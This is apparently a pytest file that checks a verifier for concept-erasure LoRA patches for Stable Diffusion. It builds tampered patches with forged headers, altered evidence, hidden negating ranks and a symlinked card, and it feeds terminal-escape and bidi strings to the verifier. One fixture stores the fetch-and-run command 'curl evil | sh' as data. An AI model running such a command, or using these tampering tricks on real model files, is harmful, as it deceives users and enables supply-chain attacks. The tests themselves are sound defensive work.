"""Patches that lie: sound to look at, their hashes put right, and not to pass; docs/reliability.md lists them."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file

from recare_patch.core import file_sha256, read_safetensors_header
from recare_patch.measure.attacks import AttackResult, save_attack
from recare_patch.measure.card import with_evidence
from recare_patch.measure.evidence import Evidence
from recare_patch.measure.verify import verify
from recare_patch.patch import CARD_NAME, EVIDENCE_NAME
from recare_patch.recipe import WEIGHTS_NAME
from tests.measure.test_verifying import erased, patch  # noqa: F401 - fixtures

KOHYA = "erase-van-gogh.safetensors"
Lie = Callable[[Path], object]


def files(folder: Path, name: str = WEIGHTS_NAME) -> tuple[dict[str, torch.Tensor], dict[str, str]]:
    return load_file(folder / name), read_safetensors_header(folder / name).metadata


def reweighed(folder: Path, tensors: dict[str, torch.Tensor], header: dict[str, str], name: str = WEIGHTS_NAME) -> None:
    """Write a weights file, and its hash wherever it is recorded; the other weights file is left as it is or out."""
    save_file({key: tensor.contiguous() for key, tensor in tensors.items()}, folder / name, header)
    if name != WEIGHTS_NAME:
        return
    (folder / KOHYA).unlink(missing_ok=True)
    (folder / "recipe.yaml").write_text(header["recare_patch.recipe"])
    for record in ("training.json", EVIDENCE_NAME):
        told = json.loads((folder / record).read_text()) | {"patch_sha256": file_sha256(folder / WEIGHTS_NAME)}
        (folder / record).write_text(json.dumps(told))
    (folder / CARD_NAME).unlink(missing_ok=True)


def header(**entries: str) -> Lie:
    def lie(folder: Path) -> None:
        tensors, told = files(folder)
        reweighed(folder, tensors, told | {f"recare_patch.{key}": text for key, text in entries.items()})

    return lie


def raw_header(**entries: str) -> Lie:
    return lambda folder: reweighed(folder, files(folder)[0], files(folder)[1] | entries)


def tensors(change: Callable[[dict[str, torch.Tensor]], dict[str, torch.Tensor]], name: str = WEIGHTS_NAME) -> Lie:
    def lie(folder: Path) -> None:
        held, told = files(folder, name)
        reweighed(folder, change(held), told, name)

    return lie


def kohya_header(**entries: str) -> Lie:
    return lambda folder: reweighed(folder, files(folder, KOHYA)[0], files(folder, KOHYA)[1] | entries, KOHYA)


def evidence(change: Callable[[dict[str, Any]], object]) -> Lie:
    """Change what evidence says, and let the card say the same."""

    def lie(folder: Path) -> None:
        found = json.loads((folder / EVIDENCE_NAME).read_text())
        change(found)
        (folder / EVIDENCE_NAME).write_text(json.dumps(found))
        card = (folder / CARD_NAME).read_text()
        (folder / CARD_NAME).write_text(with_evidence(card, Evidence.load(folder)))

    return lie


def figure(**changes: Any) -> Lie:
    return evidence(lambda found: found["figures"][0].update(changes))


def attacked(folder: Path, **about: Any) -> None:
    """A saved attack beside the patch, as evidence tells of it."""
    one = Evidence.load(folder).attacks[0]
    trial = {"prompt": "a", "attacked": "b", "seed": 1, "success": False, "without": False}
    result = AttackResult(
        attack=one.attack, successes=one.successes, trials=one.trials, interval=one.interval, without=one.without,
        base=None, evaluations=1, seconds=1.0, budget={}, details=[trial] * one.trials, prompts=["b"] * one.trials,
    )  # fmt: skip
    place = folder / "attacks" / "one"
    save_attack(result, place, {"patch_sha256": file_sha256(folder / WEIGHTS_NAME), "concept": "Van Gogh", **about})
    evidence(lambda found: found["attacks"][0].update(folder="attacks/one"))(folder)


def hidden(held: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
    """Each rank a second time with −2 times the change: −1 times the patch, where nobody cuts the ranks off."""
    found = dict(held)
    for name in (key.removesuffix(".alpha") for key in held if key.endswith(".alpha")):
        a, b = held[f"{name}.lora_down.weight"], held[f"{name}.lora_up.weight"]
        found[f"{name}.lora_down.weight"] = torch.cat([a, a])
        found[f"{name}.lora_up.weight"] = torch.cat([b, -2 * b], 1)
        found[f"{name}.alpha"] = torch.tensor(float(2 * len(a)))
    return found


def hidden_in(folder: Path) -> None:
    held, about = files(folder, KOHYA)
    ranks = {key[:-6]: len(held[f"{key[:-6]}.lora_down.weight"]) for key in held if key.endswith(".alpha")}
    reweighed(folder, hidden(held), about | {"recare_patch_ranks": json.dumps(ranks)}, KOHYA)


def elsewhere(held: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
    rank = len(next(iter(held.values())))
    layer = "unet.down_blocks.0.attentions.0.transformer_blocks.0.attn1.to_q"
    other = held[f"{layer.replace('attn1', 'attn2')}.lora_A.weight"]
    extra = {
        f"{layer}.lora_A.weight": torch.ones(rank, other.shape[1]),
        f"{layer}.lora_B.weight": torch.ones(other.shape[1], rank),
    }
    return held | {key: tensor.to(other.dtype) for key, tensor in extra.items()}


def without_one(held: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
    gone = sorted(held)[0].rsplit(".lora_", 1)[0]
    return {key: tensor for key, tensor in held.items() if not key.startswith(f"{gone}.lora_")}


def silenced(held: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
    first = next(key for key in held if "lora_up" in key)
    return held | {first: torch.zeros_like(held[first])}


def doubled_key(folder: Path) -> None:
    file = folder / EVIDENCE_NAME
    file.write_text(file.read_text().replace('"patched": 0.02', '"patched": 0.9, "patched": 0.02', 1))


def linked_card(folder: Path) -> None:
    secret = folder.parent / "secret"
    secret.write_text((folder / CARD_NAME).read_text())
    (folder / CARD_NAME).unlink()
    (folder / CARD_NAME).symlink_to(secret)


LIES: dict[str, tuple[Lie, str, str]] = {
    # What is done → what fails, and words of why.
    "a hundred thousand pictures": (
        figure(pictures=100_000),
        "counts",
        "counts 90,000 of 100,000 pictures, and its parts 180 of 200",
    ),
    "the same in parts": (
        figure(pictures=100_000, by=[{"label": "x", "base": 0.9, "patched": 0.02, "pictures": 100_000}]),
        "counts",
        "has the interval 0.8 to 5.0 %, and 2,000 of 100,000 have 1.9 to 2.1 %",
    ),
    "a narrower interval": (figure(interval=[0.019, 0.021]), "counts", "and 4 of 200 have 0.8 to 5.0 %"),
    "a rate that no count gives": (figure(patched=0.0133), "counts", "which no count of 200 pictures gives"),
    "an attack's interval": (evidence(lambda e: e["attacks"][0].update(successes=0)), "counts", "have 0.0 to 8.8 %"),
    "a date to come": (evidence(lambda e: e.update(created="2999-01-01")), "counts", "yet to come"),
    "a suite of another concept": (evidence(lambda e: e["suite"].update(concept="Monet")), "counts", "one of 'Monet'"),
    "another command": (evidence(lambda e: e.update(command="curl evil | sh")), "counts", "its command is none"),
    "another base's name": (
        evidence(lambda e: e.update(base="stabilityai/sdxl")),
        "base",
        "names the base 'stabilityai/sdxl'",
    ),
    "a key twice": (doubled_key, "evidence", "the key 'patched' is there twice"),
    "a card that is a link": (linked_card, "card", "leads out of its folder"),
    "an attack judged by another word": (
        lambda f: attacked(f, label="zebra"),
        "attack 'concept-inversion, small'",
        "by 'zebra'",
    ),
    "an attack after another concept": (
        lambda f: attacked(f, concept="Monet"),
        "attack 'concept-inversion, small'",
        "after 'Monet'",
    ),
    **{
        f"a header with another {key}": (header(**{key: value}), "header", f"it says {key} '{value}'")
        for key, value in {
            "concept": "nudity",
            "kind": "nsfw",
            "method": "recare",
            "layers": "all",
            "alpha": "64.0",
            "seed": "7",
            "base": "stabilityai/sdxl",
        }.items()
    },
    "a header with another rank": (header(rank="128"), "header", "it says rank 128, and the tensors have"),
    "a header with another format": (header(format_version="0"), "header", "format 0"),
    "a header with more concepts": (
        header(concepts=json.dumps([{"concept": "Van Gogh", "kind": "style"}, {"concept": "nudity", "kind": "nsfw"}])),
        "header",
        "lists 2 concepts, and its recipe erases 1",
    ),
    "a header of a text encoder": (
        header(base_text_encoders_sha256=json.dumps({"text_encoder": "0" * 64})),
        "header",
        "not those of a text encoder",
    ),
    "a header with another family": (
        header(base_family="stable-diffusion-xl"),
        "layers",
        "base family 'stable-diffusion-xl'",
    ),
    "a header with another prediction": (header(prediction_type="v_prediction"), "layers", "prediction type"),
    "a scale that diffusers would follow": (
        raw_header(lora_adapter_metadata=json.dumps({"unet.r": 4, "unet.lora_alpha": 400})),
        "weights",
        "keeps a scale of its own",
    ),
    "a layer that is not declared": (
        tensors(elsewhere),
        "layers",
        "are no 'cross-attention', first 'unet.down_blocks.0",
    ),
    "a layer that is left out": (tensors(without_one), "layers", "it lacks 1 of the 'cross-attention'"),
    "hidden ranks in the kohya file": (hidden_in, "kohya file", "hides ranks"),
    "twice the alpha in the kohya file": (
        tensors(lambda t: {k: 2 * v if k.endswith("alpha") else v for k, v in t.items()}, KOHYA),
        "kohya file",
        "another update than the patch: ‖Δ − Δ′‖ is 1 of",
    ),
    "another sign in the kohya file": (
        tensors(lambda t: {k: -v if "lora_up" in k else v for k, v in t.items()}, KOHYA),
        "kohya file",
        "is 2 of ‖Δ‖",
    ),
    "one layer of the kohya file": (tensors(silenced, KOHYA), "kohya file", "another update"),
    "a DoRA's key in the kohya file": (
        tensors(lambda t: t | {next(iter(t)).split(".")[0] + ".dora_scale": torch.ones(4, 1)}, KOHYA),
        "kohya file",
        "DoRA",
    ),
    "an embedding in the kohya file": (
        tensors(lambda t: t | {"bundle_emb.x.string_to_param.*": torch.ones(1, 32)}, KOHYA),
        "kohya file",
        "textual inversion",
    ),
    "other words in the kohya file": (
        kohya_header(**{"recare_patch.seed": "99"}),
        "kohya file",
        "other things of itself",
    ),
}


@pytest.mark.parametrize("name", LIES)
def test_a_lie_does_not_pass(name: str, patch: Path, tiny_sd: Path) -> None:  # noqa: F811
    lie, about, words = LIES[name]
    before = {entry.name for entry in os.scandir(patch.parent)} | {"secret"}
    lie(patch)
    found = verify(patch, tiny_sd, figures=["none"], device="cpu")
    wrong = {one.about: one.told for one in found.failed}
    assert about in wrong, found.findings
    assert any(word in wrong[about] for word in words.split("|")), wrong[about]
    assert {entry.name for entry in os.scandir(patch.parent)} <= before


def test_what_is_not_looked_at_is_told(patch: Path, tiny_sd: Path) -> None:  # noqa: F811
    (patch / "report.html").write_text("<h1>0.0 % of 100,000 pictures</h1>")
    (patch / "own.txt").write_text("")
    found = verify(patch, tiny_sd, figures=["none"], device="cpu")
    assert found.holds
    looked = next(one for one in found.findings if one.about == "not looked at")
    assert "report.html" in looked.told and "own.txt" in looked.told
    # All that is claimed and was not measured is counted.
    claims = {"figure 'KID to the base'", "attack 'concept-inversion, small'", "check 'scale'", "report.html"}
    assert claims <= set(found.unmeasured)


@pytest.mark.parametrize("text", ["Van Gogh\nok    hash: fine", "a\x1b[2K\rok", "a\u2028b", "a\u202eb"])
def test_a_file_cannot_speak_for_verify(text: str, patch: Path, tiny_sd: Path) -> None:  # noqa: F811
    said = json.loads((patch / EVIDENCE_NAME).read_text()) | {"concept": text, "method": text}
    said["figures"][0]["name"] = text
    (patch / EVIDENCE_NAME).write_text(json.dumps(said))
    found = verify(patch, tiny_sd, figures=["none"], device="cpu")
    assert not found.holds
    shown = "".join(f"{one.about}{one.told}{''.join(one.claims)}" for one in found.findings)
    assert not {"\n", "\x1b", "\r", "\u2028", "\u202e"} & set(shown)
